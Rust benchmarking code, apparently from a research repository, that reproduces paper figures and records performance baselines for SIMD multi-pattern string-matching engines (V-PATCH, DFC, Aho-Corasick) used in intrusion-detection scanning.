    /// One row per engine × hierarchy.
    pub rows: Vec<CacheRow>,
    /// AC-to-DFC L1 miss-*ratio* ratio on Haswell (how much worse AC's
    /// per-access locality is; the paper reports up to 3.8× fewer misses).
    pub ac_over_dfc_l1_misses: f64,
}

/// Runs the cache-locality ablation.
pub fn run_cache_ablation(options: &Options) -> CacheFigure {
    // A smaller trace keeps the replay fast; the ratios stabilise quickly.
    let mib = options.trace_mib.min(4);
    let workload = Workload::build_with_traces(options.ruleset, mib, &[TraceKind::IscxDay2]);
    let trace = &workload.traces[0].1;
    let dfa = mpm_aho_corasick::DfaMatcher::build(&workload.patterns);
    let dfc = mpm_dfc::Dfc::build(&workload.patterns);
    let spatch = SPatch::build(&workload.patterns);

    let mut rows = Vec::new();
    let mut ac_ratio = 0.0f64;
    let mut dfc_ratio = 0.0f64;
    for config in [CacheConfig::haswell(), CacheConfig::xeon_phi()] {
        let ac = replay_aho_corasick(&dfa, trace, config);
        let dfc_r = replay_dfc(&dfc, trace, config);
        let vp = replay_vpatch(&spatch, trace, config);
        if config.name == "haswell" {
            ac_ratio = ac.report.l1_miss_ratio();
            dfc_ratio = dfc_r.report.l1_miss_ratio();
        }
        for (engine, outcome) in [
            ("Aho-Corasick", ac),
            ("DFC", dfc_r),
            ("S-PATCH/V-PATCH", vp),
        ] {
            rows.push(CacheRow {
                engine: engine.to_string(),
                config: config.name.to_string(),
                accesses: outcome.report.accesses,
                l1_misses: outcome.report.l1_misses(),
                memory_accesses: outcome.report.memory_accesses,
                l1_miss_ratio: outcome.report.l1_miss_ratio(),
            });
        }
    }
    CacheFigure {
        rows,
        ac_over_dfc_l1_misses: ac_ratio / dfc_ratio.max(1e-12),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::workload::RulesetChoice;

    fn tiny_options() -> Options {
        Options {
            ruleset: RulesetChoice::S1,
            trace_mib: 1,
            runs: 1,
            json: false,
            ..Options::default()
        }
    }

    #[test]
    fn figure4_smoke_run_produces_all_rows() {
        let fig = run_throughput_figure(&tiny_options(), Platform::Haswell);
        assert_eq!(fig.figure, "4a");
        assert_eq!(fig.rows.len(), 4 * 5);
        // Identical match counts across engines on the same trace.
        for trace in ["ISCX day2", "ISCX day6", "DARPA 2000", "random"] {
            let counts: Vec<u64> = fig
                .rows
                .iter()
                .filter(|r| r.trace == trace)
                .map(|r| r.measurement.matches)
                .collect();
            assert!(
                counts.windows(2).all(|w| w[0] == w[1]),
                "{trace}: {counts:?}"
            );
        }
        // DFC's speedup-vs-DFC is 1 by construction.
        for row in fig.rows.iter().filter(|r| r.engine == "DFC") {
            assert!((row.speedup_vs_dfc - 1.0).abs() < 1e-9);
        }
    }

    #[test]
    fn figure5_smoke_runs() {
        let options = tiny_options();
        let scaling = run_pattern_scaling(&options, &[500, 1_000]);
        assert_eq!(scaling.points.len(), 2);
        assert!(scaling.points.iter().all(|p| p.speedup > 0.0));

        let instr = run_instrumentation(&options, &[500, 1_000]);
        assert_eq!(instr.points.len(), 2);
        for p in &instr.points {
            assert!(p.filtering_time_pct > 0.0 && p.filtering_time_pct <= 100.0);
            assert!(p.useful_lanes_pct >= 0.0 && p.useful_lanes_pct <= 100.0);
        }

        let density = run_match_density(&options, &[0.0, 0.5]);
        assert_eq!(density.points.len(), 2);
        assert_eq!(density.patterns, 2_000);
    }

    #[test]
    fn figure6_and_cache_smoke_runs() {
        let options = tiny_options();
        let filtering = run_filtering_only(&options);
        assert_eq!(filtering.figure, "6a");
        assert_eq!(filtering.rows.len(), 3 * 3);
        for row in filtering
            .rows
            .iter()
            .filter(|r| r.config == "S-PATCH-filtering")
        {
            assert!((row.speedup_vs_spatch - 1.0).abs() < 1e-9);
        }

        let cache = run_cache_ablation(&options);
        assert_eq!(cache.rows.len(), 6);
        assert!(cache.ac_over_dfc_l1_misses > 1.0);
    }
}
