//! Reproduces Figure 7 (a/b): the Figure-4 experiment at the Xeon-Phi vector
//! width (16 lanes / AVX-512).
//!
//! `--ruleset s1` → Figure 7a, `--ruleset s2` → Figure 7b.

use mpm_bench::engines::Platform;
use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let figure = experiments::run_throughput_figure(&options, Platform::XeonPhi);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_throughput(&figure));
    }
}
