//! Reproduces Figure 5b: share of time spent filtering and useful-lane
//! occupancy of the third filter, as the number of patterns grows.

use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let figure = experiments::run_instrumentation(&options, &experiments::PATTERN_SWEEP);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_instrumentation(&figure));
    }
}
