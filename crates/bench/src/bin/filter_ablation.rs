//! Ablation of the third-filter size (the trade-off the paper discusses in
//! §IV-A: a larger hashed filter collides less and filters better, a smaller
//! one lives higher in the cache hierarchy).
//!
//! Sweeps the filter-3 size and reports S-PATCH / V-PATCH throughput and the
//! long-candidate rate for each size.

use mpm_bench::{measure_throughput, Options};
use mpm_patterns::Matcher;
use mpm_simd::{Avx2Backend, ScalarBackend, VectorBackend};
use mpm_traffic::TraceKind;
use mpm_vpatch::{SPatch, SPatchTables, VPatch};

fn main() {
    let options = Options::from_env();
    let workload = mpm_bench::Workload::build_with_traces(
        options.ruleset,
        options.trace_mib,
        &[TraceKind::IscxDay2],
    );
    let trace = &workload.traces[0].1;
    println!(
        "# Filter-3 size ablation — {} ({} patterns, {} MiB ISCX-like trace)",
        options.ruleset.label(),
        workload.patterns.len(),
        options.trace_mib
    );
    println!(
        "{:>12} {:>14} {:>16} {:>16} {:>18}",
        "filter3 bits", "filter3 KiB", "S-PATCH (Gbps)", "V-PATCH (Gbps)", "long candidates"
    );
    for bits in [12u32, 14, 16, 17, 20, 22] {
        let tables = SPatchTables::build_with_filter3_bits(&workload.patterns, bits);
        let spatch = SPatch::from_tables(tables.clone());
        let sm = measure_throughput(&spatch, trace, options.runs);
        let (vm, candidates) = if <Avx2Backend as VectorBackend<8>>::is_available() {
            let vp = VPatch::<Avx2Backend, 8>::from_tables(tables.clone());
            (
                measure_throughput(&vp, trace, options.runs),
                vp.scan_with_stats(trace).candidates,
            )
        } else {
            let vp = VPatch::<ScalarBackend, 8>::from_tables(tables.clone());
            (
                measure_throughput(&vp, trace, options.runs),
                vp.scan_with_stats(trace).candidates,
            )
        };
        println!(
            "{:>12} {:>14.1} {:>16.3} {:>16.3} {:>18}",
            bits,
            tables.filter3().heap_bytes() as f64 / 1024.0,
            sm.gbps_mean,
            vm.gbps_mean,
            candidates
        );
    }
}
