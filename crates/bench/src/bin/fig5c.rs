//! Reproduces Figure 5c: V-PATCH-over-S-PATCH speedup as the fraction of the
//! input covered by pattern occurrences grows from 0% to 100%.

use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let fractions = [0.0, 0.2, 0.4, 0.6, 0.8, 1.0];
    let figure = experiments::run_match_density(&options, &fractions);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_match_density(&figure));
    }
}
