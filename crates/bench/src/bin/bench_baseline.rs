//! Emits the machine-readable perf-trajectory snapshot recorded in the
//! repository's `BENCH_baseline.json`.
//!
//! Measures, for every backend this CPU supports (plus the scalar reference
//! at both widths):
//!
//! * the Figure 6 quantity — V-PATCH filtering-phase throughput with and
//!   without candidate stores — on the canonical fig6 workload (S1-HTTP
//!   ruleset, ISCX-day2-like trace), case-sensitive and mixed-case;
//! * since PR 5, a **verify-heavy** section: end-to-end V-PATCH throughput
//!   (filter round + verification round) on the adversarial
//!   [`Workload::verify_heavy_variant`] workload — hot-prefix patterns, so
//!   candidate density is 10–100× s1-http — measured once with the batched,
//!   prefetch-pipelined verification path and once with the historical
//!   per-candidate path, each row carrying its `verify_share` (fraction of
//!   scan time spent verifying) so the batched win is attributable;
//! * since PR 5, a **memory** section: every engine's
//!   [`mpm_patterns::Matcher::memory_footprint`] (filter vs verifier bytes)
//!   on the s1 ruleset, so perf snapshots carry their memory cost;
//! * since PR 6, a **rule_confirmation** section: the s1-http contents
//!   regrouped into multi-content rules (every content kept, secondaries
//!   tied with `distance:0`), scanned anchors-only vs with anchor-gated
//!   rule confirmation — the cost of promoting patterns to rules;
//! * since PR 9, a **scan_graph** section: the graph-assembled V-PATCH
//!   end-to-end scan with the cross-chunk overlapped schedule on vs off,
//!   on both the s1-http and verify-heavy workloads — the A/B that shows
//!   what software pipelining buys when verification is the bottleneck.
//!
//! Output is a JSON snapshot in the `vpatch-bench-baseline/v1` shape; the
//! checked-in `BENCH_baseline.json` accumulates one snapshot per
//! optimisation PR so regressions and wins stay diff-able:
//!
//! ```text
//! cargo run --release -p mpm-bench --bin bench_baseline -- --mb 1 --runs 30
//! ```
//!
//! `--mb` / `--runs` tune trace size and repetitions; `--ruleset` switches
//! the sub-figure workload. Each snapshot records its own `source`
//! (methodology); only compare rows whose sources match.
//!
//! The snapshot also carries a `multicore` section: aggregate sharded-scan
//! throughput (full scans over a packetized copy of the same trace) at
//! 1/2/4/8 workers — the multi-core scaling trajectory. Its
//! `available_parallelism` field records how many hardware threads the
//! machine had, so flat scaling on a 1-CPU runner is not misread as a
//! regression. Since PR 8 the section's `latency` subsection adds the
//! continuously-running pipeline's per-packet p50/p99/p99.9 latency,
//! worker utilization and backpressure counters at the same worker counts;
//! `--latency-only` runs just that subsection and emits it as JSON (the CI
//! latency artifact).

use mpm_bench::engines::{build_engine, EngineKind, Platform};
use mpm_bench::measure::measure_closure;
use mpm_bench::{multicore, report, MultiCoreFigure, Options, Workload};
use mpm_graph::GraphConfig;
use mpm_patterns::stats::RunningStats;
use mpm_patterns::Matcher;
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use mpm_traffic::TraceKind;
use mpm_vpatch::{FilterOnlyMode, Scratch, VPatch};
use serde::Serialize;
use std::time::Instant;

/// One measured (backend, configuration) point, in the
/// `vpatch-bench-baseline/v1` row shape.
#[derive(Clone, Debug, Serialize)]
struct BaselineRow {
    /// Backend name as reported by the trait (`scalar` / `avx2` / `avx512`).
    backend: String,
    /// Vector width the engine was instantiated at.
    lanes: usize,
    /// `filtering+stores` or `filtering` (the two V-PATCH bars of Figure 6).
    config: String,
    /// Mean filtering-phase throughput in Gbit/s.
    gbps: f64,
    /// Sample standard deviation of the throughput.
    gbps_std: f64,
}

/// One end-to-end point on the verify-heavy workload: full V-PATCH scan
/// (filter round + verification round), batched vs per-candidate verify.
#[derive(Clone, Debug, Serialize)]
struct VerifyHeavyRow {
    /// Backend name.
    backend: String,
    /// Vector width.
    lanes: usize,
    /// `batched` (PR 5 path) or `per-candidate` (historical path).
    verify: String,
    /// Mean end-to-end throughput in Gbit/s.
    gbps: f64,
    /// Sample standard deviation.
    gbps_std: f64,
    /// Fraction of scan time spent in the verification round.
    verify_share: f64,
    /// Candidate positions produced per input KiB (workload density check;
    /// identical across verify modes by construction).
    candidates_per_kib: f64,
}

/// One point of the scan-graph section (since PR 9): full end-to-end
/// V-PATCH scan through the operator graph, overlapped (double-banked
/// cross-chunk software pipelining) vs sequential schedule, per backend
/// and workload. The A/B pair shares everything — engine, tables, chunk
/// size — except `overlap`, so the delta is the pipelining effect.
#[derive(Clone, Debug, Serialize)]
struct ScanGraphRow {
    /// Backend name.
    backend: String,
    /// Vector width.
    lanes: usize,
    /// `s1-http` (filter-dominated) or `verify-heavy` (the adversarial
    /// workload the overlapped schedule targets).
    workload: String,
    /// Graph chunk size in bytes.
    chunk: usize,
    /// Whether the overlapped schedule was on.
    overlap: bool,
    /// Median end-to-end throughput in Gbit/s (interleaved A/B runs;
    /// median because one descheduled run on a shared runner skews a mean
    /// by more than the overlap delta under test).
    gbps: f64,
    /// Sample standard deviation.
    gbps_std: f64,
}

/// One point of the rule-confirmation section: the s1-http contents
/// regrouped into multi-content rules (`longest_content_only: false`
/// semantics — every content kept), scanned with confirmation off
/// (anchors only, the plain `Matcher` path) and on (anchor-gated
/// confirmation of secondary contents + positional windows).
#[derive(Clone, Debug, Serialize)]
struct RulesetRow {
    /// Backend name.
    backend: String,
    /// Vector width.
    lanes: usize,
    /// `anchors-only` or `confirmation`.
    config: String,
    /// Mean end-to-end throughput in Gbit/s.
    gbps: f64,
    /// Sample standard deviation.
    gbps_std: f64,
    /// Rules in the compiled set.
    rules: usize,
    /// Rules confirmed on the trace (identical across backends; a
    /// workload-density check like `candidates_per_kib`).
    confirmed: usize,
}

/// One point of the ruleset-scaling section: a synthetic `scale`×
/// replication of an s1 subset, each replica bound to its own destination
/// port, scanned grouped (per-flow group selection over the
/// `GroupedRuleSet` partitioning, engines sharing one pattern arena) vs
/// monolithic (one engine + confirmer over all `scale × base` rules, every
/// flow scanning everything). `memory_ratio` is the CI budget gauge
/// (`--scaling-only --mem-budget`).
#[derive(Clone, Debug, Serialize)]
struct ScalingRow {
    /// Replication factor (== number of single-port groups).
    scale: usize,
    /// Total rules in the scaled set.
    rules: usize,
    /// Port groups the partitioning produced.
    port_groups: usize,
    /// Distinct compiled engines after identical-group sharing.
    unique_engines: usize,
    /// Mean grouped throughput in Gbit/s (per-flow group selection).
    grouped_gbps: f64,
    /// Sample standard deviation of the grouped throughput.
    grouped_gbps_std: f64,
    /// Mean monolithic throughput in Gbit/s (every flow scans every rule).
    monolithic_gbps: f64,
    /// Sample standard deviation of the monolithic throughput.
    monolithic_gbps_std: f64,
    /// `grouped_gbps / monolithic_gbps`.
    speedup: f64,
    /// Grouped resident bytes: unique engines + confirmers + the shared
    /// arena once (`GroupedEngineSet::memory_footprint`).
    grouped_bytes: usize,
    /// Monolithic resident bytes: engine footprint + rule confirmer.
    monolithic_bytes: usize,
    /// `grouped_bytes / monolithic_bytes` — must stay under the budget.
    memory_ratio: f64,
    /// Rules confirmed per pass, grouped path (workload-density check).
    confirmed_grouped: usize,
    /// Rules confirmed per pass, monolithic path filtered post-hoc to the
    /// flows' applicable rules (equals `confirmed_grouped` by the grouped
    /// equivalence property).
    confirmed_monolithic: usize,
}

/// Per-engine resident-size row (s1 ruleset).
#[derive(Clone, Debug, Serialize)]
struct MemoryRow {
    /// Engine label as used in the paper's figures.
    engine: String,
    /// Bytes of the filtering structures (0 when not phase-attributed).
    filter_bytes: usize,
    /// Bytes of the verification structures.
    verify_bytes: usize,
    /// Bytes not attributable to either phase.
    other_bytes: usize,
    /// Total resident bytes (`== Matcher::heap_bytes`).
    total_bytes: usize,
}

/// One snapshot of the perf trajectory (what this binary emits).
#[derive(Clone, Debug, Serialize)]
struct BaselineSnapshot {
    /// Snapshot label; edit when merging into `BENCH_baseline.json`.
    label: String,
    /// Measurement methodology; appended snapshots are only comparable to
    /// entries whose `source` matches.
    source: String,
    /// Ruleset the engines were compiled for.
    ruleset: String,
    /// Trace size in MiB.
    trace_mib: usize,
    /// Measured repetitions per point.
    runs: usize,
    /// One row per backend × configuration (Figure 6 filtering quantity).
    rows: Vec<BaselineRow>,
    /// End-to-end rows on the verify-heavy adversarial workload, batched vs
    /// per-candidate verification.
    verify_heavy: Vec<VerifyHeavyRow>,
    /// Scan-graph rows: the graph-assembled end-to-end scan with the
    /// overlapped schedule on vs off, per backend and workload.
    scan_graph: Vec<ScanGraphRow>,
    /// Rule-confirmation rows: multi-content rules built from the same
    /// contents, anchors-only vs confirmation-on.
    rule_confirmation: Vec<RulesetRow>,
    /// Ruleset-scaling rows: grouped vs monolithic scanning of 10×/30×
    /// port-replicated rulesets (throughput and memory).
    ruleset_scaling: Vec<ScalingRow>,
    /// Per-engine resident table sizes on the s1 ruleset.
    memory: Vec<MemoryRow>,
    /// Multi-core scaling on the same workload: aggregate sharded-scan
    /// throughput (full scans, not filtering-only) vs worker count.
    multicore: MultiCoreFigure,
    /// Overload-resilience rows: bursty flow-skewed dispatch into tiny
    /// rings under `Block` (lossless, backpressured) vs `Shed`
    /// (load-shedding) dispatch policies.
    resilience: Vec<multicore::ResilienceRow>,
}

fn measure_backend<B: VectorBackend<W>, const W: usize>(
    workload: &Workload,
    trace: &[u8],
    runs: usize,
    config_suffix: &str,
    rows: &mut Vec<BaselineRow>,
) {
    if !B::is_available() {
        return;
    }
    let engine = VPatch::<B, W>::build(&workload.patterns);
    let mut scratch = Scratch::with_capacity_for(trace.len());
    for (mode, config) in [
        (FilterOnlyMode::WithStores, "filtering+stores"),
        (FilterOnlyMode::NoStores, "filtering"),
    ] {
        let measurement = measure_closure(trace.len(), runs, || {
            engine.filter_only(trace, mode, &mut scratch)
        });
        rows.push(BaselineRow {
            backend: B::name().to_string(),
            lanes: W,
            config: format!("{config}{config_suffix}"),
            gbps: measurement.gbps_mean,
            gbps_std: measurement.gbps_std,
        });
    }
}

fn measure_all_backends(
    workload: &Workload,
    runs: usize,
    suffix: &str,
    rows: &mut Vec<BaselineRow>,
) {
    let trace = &workload.traces[0].1;
    measure_backend::<ScalarBackend, 8>(workload, trace, runs, suffix, rows);
    measure_backend::<ScalarBackend, 16>(workload, trace, runs, suffix, rows);
    measure_backend::<Avx2Backend, 8>(workload, trace, runs, suffix, rows);
    measure_backend::<Avx512Backend, 16>(workload, trace, runs, suffix, rows);
}

/// Measures one backend's full scan (filter + verify) on the verify-heavy
/// workload, once per verification mode. Per-phase times are taken around
/// the two rounds directly, so `verify_share` is attributable to the path
/// under test rather than inferred.
fn measure_verify_heavy<B: VectorBackend<W>, const W: usize>(
    workload: &Workload,
    trace: &[u8],
    runs: usize,
    rows: &mut Vec<VerifyHeavyRow>,
) {
    if !B::is_available() {
        return;
    }
    let engine = VPatch::<B, W>::build(&workload.patterns);
    let mut scratch = Scratch::with_capacity_for(trace.len());
    let mut out = Vec::new();
    for (mode, batched) in [("batched", true), ("per-candidate", false)] {
        // Warm-up pass (tables + trace into cache, scratch to steady state).
        scratch.clear();
        engine.filter_round(trace, &mut scratch);
        let candidates = scratch.candidates();
        let mut stats = RunningStats::new();
        let mut filter_nanos = 0u64;
        let mut verify_nanos = 0u64;
        for _ in 0..runs {
            out.clear();
            scratch.begin_chunk();
            let t0 = Instant::now();
            engine.filter_round(trace, &mut scratch);
            let t1 = Instant::now();
            if batched {
                engine.verify_round(trace, &scratch, &mut out);
            } else {
                engine.verify_round_per_candidate(trace, &scratch, &mut out);
            }
            let t2 = Instant::now();
            filter_nanos += (t1 - t0).as_nanos() as u64;
            verify_nanos += (t2 - t1).as_nanos() as u64;
            stats.push(mpm_bench::measure::gbps(
                trace.len(),
                (t2 - t0).as_secs_f64(),
            ));
        }
        rows.push(VerifyHeavyRow {
            backend: B::name().to_string(),
            lanes: W,
            verify: mode.to_string(),
            gbps: stats.mean(),
            gbps_std: stats.stddev(),
            verify_share: verify_nanos as f64 / (filter_nanos + verify_nanos).max(1) as f64,
            candidates_per_kib: candidates as f64 * 1024.0 / trace.len() as f64,
        });
    }
}

/// Measures one backend's graph-assembled V-PATCH scan ([`Matcher::find_into`],
/// which since PR 9 runs the operator graph) with the overlapped schedule
/// off and on, everything else identical. The differential suite proves the
/// two schedules byte-identical, so the row pair is a pure perf A/B.
fn measure_scan_graph<B: VectorBackend<W>, const W: usize>(
    workload: &Workload,
    trace: &[u8],
    runs: usize,
    workload_label: &str,
    rows: &mut Vec<ScanGraphRow>,
) {
    if !B::is_available() {
        return;
    }
    // The interesting quantity is the overlap *delta*, which is small next
    // to run-to-run machine drift — so the two schedules are measured
    // interleaved (seq, ovl, seq, ovl, ...) rather than as two separate
    // loops, turning slow drift into noise both rows share, and each row
    // reports its *median* throughput: on shared-hardware runners a single
    // descheduled run skews a mean by more than the effect under test.
    // The delta also needs more samples than an absolute-throughput row to
    // resolve at all, hence the 3x run multiplier.
    let runs = runs * 3;
    let mut engines: Vec<VPatch<B, W>> = Vec::new();
    let mut samples: Vec<Vec<f64>> = Vec::new();
    let mut chunk = 0;
    for overlap in [false, true] {
        let mut engine = VPatch::<B, W>::build(&workload.patterns);
        let cfg = GraphConfig {
            overlap,
            ..engine.graph_config()
        };
        engine.set_graph_config(cfg);
        chunk = cfg.chunk;
        engines.push(engine);
        samples.push(Vec::with_capacity(runs));
    }
    let mut out = Vec::new();
    for run in 0..(1 + runs) {
        for (engine, sample) in engines.iter().zip(samples.iter_mut()) {
            out.clear();
            let t0 = Instant::now();
            engine.find_into(trace, &mut out);
            let secs = t0.elapsed().as_secs_f64();
            // First pass is warm-up (tables + trace into cache, scratchpad
            // allocated) and is not recorded.
            if run > 0 {
                sample.push(mpm_bench::measure::gbps(trace.len(), secs));
            }
        }
    }
    for (overlap, sample) in [false, true].into_iter().zip(&mut samples) {
        sample.sort_by(|a, b| a.total_cmp(b));
        let median = sample[sample.len() / 2];
        let mut stat = RunningStats::new();
        for &s in sample.iter() {
            stat.push(s);
        }
        rows.push(ScanGraphRow {
            backend: B::name().to_string(),
            lanes: W,
            workload: workload_label.to_string(),
            chunk,
            overlap,
            gbps: median,
            gbps_std: stat.stddev(),
        });
    }
}

/// Regroups the workload's contents into a multi-content rule set: every
/// run of `contents_per_rule` consecutive patterns becomes one rule, the
/// secondary contents tied to their predecessor with `distance:0` (the
/// commonest Snort idiom). All contents are kept — the rule analogue of
/// `longest_content_only: false` — and the set's anchor selection picks
/// which one the engines search for.
fn ruleset_from_patterns(
    patterns: &mpm_patterns::PatternSet,
    contents_per_rule: usize,
) -> mpm_patterns::RuleSet {
    let rules = patterns
        .patterns()
        .chunks(contents_per_rule)
        .map(|chunk| {
            let contents = chunk
                .iter()
                .enumerate()
                .map(|(i, p)| {
                    let c = mpm_patterns::RuleContent::new(p.bytes().to_vec())
                        .with_nocase(p.is_nocase());
                    if i == 0 {
                        c
                    } else {
                        c.with_distance(0)
                    }
                })
                .collect();
            mpm_patterns::Rule::new(chunk[0].group(), contents)
        })
        .collect();
    mpm_patterns::RuleSet::new(rules)
}

/// Measures one backend on the rule workload: anchors-only (plain engine
/// scan of the anchor set — the cost floor) and confirmation-on
/// (anchor-gated `scan_rules`).
fn measure_ruleset<B: VectorBackend<W>, const W: usize>(
    set: &mpm_patterns::RuleSet,
    trace: &[u8],
    runs: usize,
    rows: &mut Vec<RulesetRow>,
) {
    if !B::is_available() {
        return;
    }
    let engine: std::sync::Arc<dyn Matcher + Send + Sync> =
        std::sync::Arc::new(VPatch::<B, W>::build(set.anchors()));
    let anchors_only = measure_closure(trace.len(), runs, || engine.count(trace));
    rows.push(RulesetRow {
        backend: B::name().to_string(),
        lanes: W,
        config: "anchors-only".to_string(),
        gbps: anchors_only.gbps_mean,
        gbps_std: anchors_only.gbps_std,
        rules: set.len(),
        confirmed: 0,
    });
    let scanner = mpm_verify::RuleScanner::new(engine, set);
    let mut confirmed = 0usize;
    let with_confirmation = measure_closure(trace.len(), runs, || {
        let hits = scanner.scan_rules(trace);
        confirmed = hits.len();
        hits.len() as u64
    });
    rows.push(RulesetRow {
        backend: B::name().to_string(),
        lanes: W,
        config: "confirmation".to_string(),
        gbps: with_confirmation.gbps_mean,
        gbps_std: with_confirmation.gbps_std,
        rules: set.len(),
        confirmed,
    });
}

/// Replicates a base pattern subset `scale` times, each replica addressed
/// to its own destination port (`2000 + r`, outside the default
/// `$HTTP_PORTS`). A deterministic ~20% of each replica's contents get a
/// replica-unique tail, so replicas are structurally distinct (no trivial
/// whole-engine sharing) while the remaining ~80% stay byte-identical
/// across replicas — which is exactly the regime the grouped design is
/// for: the shared arena stores those bytes once, and per-group tables
/// keep buckets 1-deep where the monolithic table piles `scale` duplicate
/// entries into every shared bucket.
fn scaled_grouped_rules(
    base: &mpm_patterns::PatternSet,
    scale: usize,
) -> Vec<(mpm_patterns::RuleHeader, mpm_patterns::Rule)> {
    use mpm_patterns::{PortSpec, Proto, RuleHeader};
    let mut out = Vec::with_capacity(base.len() * scale);
    for r in 0..scale {
        let port = 2000 + r as u16;
        for (i, p) in base.patterns().iter().enumerate() {
            let mut bytes = p.bytes().to_vec();
            if i % 5 == 0 {
                bytes.extend_from_slice(&[b'-', b'0' + (r % 10) as u8, b'0' + (r / 10) as u8]);
            }
            let content = mpm_patterns::RuleContent::new(bytes).with_nocase(p.is_nocase());
            out.push((
                RuleHeader::new(Proto::Tcp, PortSpec::any(), PortSpec::single(port)),
                mpm_patterns::Rule::new(p.group(), vec![content]),
            ));
        }
    }
    out
}

/// Measures grouped vs monolithic scanning of the scaled rulesets. Traffic
/// is the trace cut into one flow per port group, each flow addressed to
/// its group's port — the realistic shape where grouping pays: every flow
/// is scanned against its own replica (plus catch-alls) instead of all
/// `scale` replicas.
fn measure_ruleset_scaling(workload: &Workload, runs: usize) -> Vec<ScalingRow> {
    use mpm_patterns::{FlowTuple, GroupedRuleSet, Proto};
    use mpm_stream::GroupedEngineSet;
    use std::sync::Arc;
    // A 600-pattern base keeps the 30× point (18K rules) tractable while
    // preserving the s1 length/prefix mix.
    let base = workload.pattern_subset(600);
    let trace = &workload.traces[0].1;
    let mut rows = Vec::new();
    for scale in [10usize, 30] {
        let grouped = GroupedRuleSet::new(scaled_grouped_rules(&base, scale));
        let mono_set = grouped.monolithic().clone();
        let rules = grouped.len();
        let engines = Arc::new(GroupedEngineSet::build_with(grouped, |set, arena| {
            Arc::from(mpm_vpatch::build_auto_with_arena(set, arena))
        }));

        let chunk = trace.len() / scale;
        let flows: Vec<(FlowTuple, &[u8])> = (0..scale)
            .map(|r| {
                (
                    FlowTuple::new(Proto::Tcp, 40000, 2000 + r as u16),
                    &trace[r * chunk..(r + 1) * chunk],
                )
            })
            .collect();
        let total: usize = flows.iter().map(|(_, payload)| payload.len()).sum();

        let mut confirmed_grouped = 0usize;
        let grouped_run = measure_closure(total, runs, || {
            let mut n = 0u64;
            for (tuple, payload) in &flows {
                n += engines.scan_flow(Some(*tuple), payload).len() as u64;
            }
            confirmed_grouped = n as usize;
            n
        });

        let mono_engine: Arc<dyn Matcher + Send + Sync> =
            Arc::from(mpm_vpatch::build_auto(mono_set.anchors()));
        let mono_engine_bytes = mono_engine.memory_footprint().total();
        let scanner = mpm_verify::RuleScanner::new(mono_engine, &mono_set);
        let mut confirmed_monolithic = 0usize;
        let mono_run = measure_closure(total, runs, || {
            let mut n = 0u64;
            for (tuple, payload) in &flows {
                // Post-hoc header filter: what a monolithic deployment must
                // do to report only the flow's applicable rules.
                n += scanner
                    .scan_rules(payload)
                    .iter()
                    .filter(|m| engines.grouped().applies_to(m.rule, *tuple))
                    .count() as u64;
            }
            confirmed_monolithic = n as usize;
            n
        });

        let grouped_bytes = engines.memory_footprint().total();
        let monolithic_bytes = mono_engine_bytes + scanner.confirmer().heap_bytes();
        rows.push(ScalingRow {
            scale,
            rules,
            port_groups: engines.group_count(),
            unique_engines: engines.unique_engine_count(),
            grouped_gbps: grouped_run.gbps_mean,
            grouped_gbps_std: grouped_run.gbps_std,
            monolithic_gbps: mono_run.gbps_mean,
            monolithic_gbps_std: mono_run.gbps_std,
            speedup: grouped_run.gbps_mean / mono_run.gbps_mean.max(f64::MIN_POSITIVE),
            grouped_bytes,
            monolithic_bytes,
            memory_ratio: grouped_bytes as f64 / monolithic_bytes.max(1) as f64,
            confirmed_grouped,
            confirmed_monolithic,
        });
    }
    rows
}

/// Builds the per-engine memory section on the s1 ruleset (the figure
/// engines at the widest platform this machine models, plus Wu-Manber).
fn memory_section(workload: &Workload) -> Vec<MemoryRow> {
    let mut rows = Vec::new();
    let platform = if <Avx512Backend as VectorBackend<16>>::is_available() {
        Platform::XeonPhi
    } else {
        Platform::Haswell
    };
    for kind in EngineKind::ALL {
        let engine = build_engine(kind, &workload.patterns, platform);
        let fp = engine.memory_footprint();
        rows.push(MemoryRow {
            engine: kind.label().to_string(),
            filter_bytes: fp.filter_bytes,
            verify_bytes: fp.verify_bytes,
            other_bytes: fp.other_bytes,
            total_bytes: fp.total(),
        });
    }
    let wm = mpm_wu_manber::WuManber::build(&workload.patterns);
    let fp = wm.memory_footprint();
    rows.push(MemoryRow {
        engine: wm.name().to_string(),
        filter_bytes: fp.filter_bytes,
        verify_bytes: fp.verify_bytes,
        other_bytes: fp.other_bytes,
        total_bytes: fp.total(),
    });
    rows
}

/// Enforces the grouped-memory budget on the scaling rows; returns true if
/// every row is within budget.
fn scaling_within_budget(rows: &[ScalingRow], budget: f64) -> bool {
    let mut ok = true;
    for row in rows {
        if row.memory_ratio > budget {
            eprintln!(
                "MEMORY BUDGET EXCEEDED at scale {}: grouped {} B / monolithic {} B = {:.3} > {:.3}",
                row.scale, row.grouped_bytes, row.monolithic_bytes, row.memory_ratio, budget
            );
            ok = false;
        }
    }
    ok
}

fn main() {
    let options = Options::from_env();
    let workload =
        Workload::build_with_traces(options.ruleset, options.trace_mib, &[TraceKind::IscxDay2]);
    let trace = &workload.traces[0].1;

    if options.latency_only {
        // CI latency artifact: just the pipeline-latency subsection.
        let latency =
            multicore::run_latency_auto(&workload.patterns, trace, &[1, 2, 4, 8], options.runs);
        println!("{}", report::to_json(&latency));
        return;
    }

    if options.resilience_only {
        // Resilience artifact: Block vs Shed dispatch over the bursty
        // flow-skewed packetization at a deliberately tiny ring.
        let resilience =
            multicore::run_resilience_auto(&workload.patterns, trace, 4, 2, options.runs);
        println!("{}", report::to_json(&resilience));
        return;
    }

    if options.scaling_only {
        // CI memory-regression gate: just the grouped-vs-monolithic section,
        // budget-checked, nonzero exit on regression.
        let ruleset_scaling = measure_ruleset_scaling(&workload, options.runs);
        println!("{}", report::to_json(&ruleset_scaling));
        if !scaling_within_budget(&ruleset_scaling, options.mem_budget) {
            std::process::exit(1);
        }
        return;
    }

    let mut rows = Vec::new();
    // Case-sensitive-only rows: the historical byte-exact fast path — these
    // are the rows the zero-regression claim compares across snapshots.
    measure_all_backends(&workload, options.runs, "", &mut rows);
    // Mixed-case rows: ~1/3 of the patterns nocase (folded filters +
